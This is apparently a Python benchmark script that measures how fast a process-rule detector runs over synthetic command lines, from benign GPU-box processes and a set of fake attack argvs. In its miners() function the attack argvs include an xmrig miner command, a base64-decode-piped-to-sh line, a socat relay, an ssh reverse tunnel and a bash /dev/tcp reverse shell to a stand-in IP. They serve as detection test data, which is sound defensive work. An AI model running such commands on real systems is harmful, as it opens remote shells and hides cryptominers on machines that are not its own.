"""Full-catalogue rule evaluation per process fact, against one bare regex pass.

Builds N recorded process facts (argvs from the rules' embedded samples, fake miners with
random pools and wallets, and benign argvs like a GPU box's real processes), then times, on
one core and in the same run:
  - baseline: the stratum URL regex `search` over each joined argv (one compiled regex);
  - catalogue: ProcessDetector.check on each fact (every process rule, every text rule over
    the command line and the base64 texts hidden in it), findings built as the agent does;
    text matches of a command line seen before are kept (the facts repeat benign argvs, as a
    box does), so it is also timed with nothing kept.
Prints facts/s for each and the ratio catalogue/baseline; target >= 20,000 facts/s.

    python3 benchmarks/bench_rules.py [--facts 20000] [--reps 3]
"""

from __future__ import annotations

import argparse
import base64
import os
import random
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests" / "support"))

from fakes import context, fake_monero_address

from sentinel.core.model import Ancestor, Proc
from sentinel.detectors.process import ProcessDetector
from sentinel.rules.cmdline import STRATUM_URL
from sentinel.rules.fields.process import sample_proc

TARGET = 20_000
BENIGN = [
    ["/usr/lib/systemd/systemd", "--user"],
    ["/usr/sbin/sshd", "-D"],
    ["sshd: root@pts/0"],
    ["-bash"],
    ["/usr/bin/python3", "train.py", "--epochs", "10", "--lr", "3e-4", "--batch-size", "64"],
    ["/usr/bin/python3", "-m", "torch.distributed.run", "--nproc_per_node=8", "train.py"],
    ["nvidia-smi", "--query-gpu=utilization.gpu,memory.used", "--format=csv,noheader"],
    ["/usr/bin/containerd"],
    ["/usr/bin/dockerd", "-H", "fd://", "--containerd=/run/containerd/containerd.sock"],
    ["git", "fetch", "--prune", "origin"],
    ["pip", "install", "-r", "requirements.txt", "--no-cache-dir"],
    ["gcc", "-O2", "-c", "-o", "build/obj/x.o", "src/x.c"],
    ["make", "-j16", "all"],
    ["/bin/sh", "-c", "cd /workspace && python3 eval.py --model ckpt/last.pt > log.txt 2>&1"],
    ["curl", "-fsSL", "-o", "data.tar.gz", "https://example.com/datasets/data.tar.gz"],
    ["tar", "xzf", "data.tar.gz", "-C", "/data"],
    ["ls", "-la", "/tmp"],
    ["grep", "-r", "--include=*.py", "import torch", "."],
    ["/usr/sbin/cron", "-f"],
    ["/usr/sbin/rsyslogd", "-n", "-iNONE"],
    ["tmux", "new-session", "-s", "work"],
    ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "run", "build"],
    ["ssh", "-L", "8080:localhost:80", "build.example.com"],
    ["sleep", "60"],
]


def miners(rng: random.Random) -> list[list[str]]:
    port = rng.randint(1024, 65000)
    wallet = fake_monero_address()
    hidden = base64.b64encode(f"./w -o stratum+tcp://10.0.0.{rng.randint(1, 254)}:{port}".encode())
    return [
        ["./xmrig", "-o", f"stratum+tcp://10.1.2.3:{port}", "-u", wallet, "--donate-level", "1"],
        ["/tmp/.x/kworker", "-a", "rx/0", "-o", f"pool.supportxmr.com:{port}", "-u", wallet],
        ["sh", "-c", f"echo {hidden.decode()} | base64 -d | sh"],
        ["ssh", "-N", "-R", f"{port}:localhost:22", "u@198.51.100.7"],
        ["socat", f"TCP-LISTEN:{port},fork", "TCP:198.51.100.7:80"],
        ["bash", "-c", f"bash -i >& /dev/tcp/198.51.100.5/{port} 0>&1"],
    ]


def samples() -> list[list[str]]:
    """argvs of the rules' embedded process and text samples."""
    ctx = context()
    out = []
    for rule in ctx.catalogue.all_rules():
        for s in rule.tests:
            if rule.event == "process" and s.data.get("argv"):
                out.append([str(a) for a in s.data["argv"]])
            elif rule.event == "text":
                out.append(["sh", "-c", str(s.data["text"])])
    return out


def facts(n: int, seed: int = 7) -> list[Proc]:
    rng = random.Random(seed)
    bad = samples()
    procs = []
    for i in range(n):
        roll = rng.random()
        if roll < 0.1:
            argv = rng.choice(miners(rng)) if i % 4 else rng.choice(bad)
        else:
            argv = list(rng.choice(BENIGN))
        exe = argv[0] if argv[0].startswith("/") else f"/usr/bin/{os.path.basename(argv[0])}"
        p = sample_proc({"argv": argv, "exe": exe, "pid": 10_000 + i, "ppid": 1 + i % 50})
        p.ancestors = [Ancestor(p.ppid, "bash", "/usr/bin/bash")]
        procs.append(p)
    return procs


def time_it(fn, items, reps: int) -> float:
    """Best facts per second over reps."""
    best = float("inf")
    for _ in range(reps):
        start = time.perf_counter()
        for x in items:
            fn(x)
        best = min(best, time.perf_counter() - start)
    return len(items) / best


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--facts", type=int, default=20_000)
    ap.add_argument("--reps", type=int, default=3)
    args = ap.parse_args()
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})  # one core
    det = ProcessDetector(context())
    items = facts(args.facts)
    texts = [" ".join(p.cmdline) for p in items]
    base = time_it(STRATUM_URL.search, texts, args.reps)

    def fresh_check(p: Proc) -> None:
        det.check(p)

    full = time_it(fresh_check, items, args.reps)
    found = sum(1 for p in items if det.check(p))
    memos = det.ctx.catalogue.memos

    def unkept_check(p: Proc) -> None:
        memos.clear()  # as if every command line were new: no text matches kept
        det.check(p)

    cold = time_it(unkept_check, items, args.reps)
    print(f"facts: {len(items)} ({found} with findings), one core")
    print(f"baseline  stratum regex search per joined argv: {base:12,.0f} facts/s")
    print(f"catalogue ProcessDetector.check (all rules):    {full:12,.0f} facts/s")
    print(f"  the same, every command line new to the memo: {cold:12,.0f} facts/s")
    print(f"ratio catalogue/baseline: {full / base:.3f}")
    verdict = "meets" if full >= TARGET else "MISSES"
    print(f"target >= {TARGET:,} facts/s: {verdict}")
    return 0 if full >= TARGET else 1


if __name__ == "__main__":
    sys.exit(main())
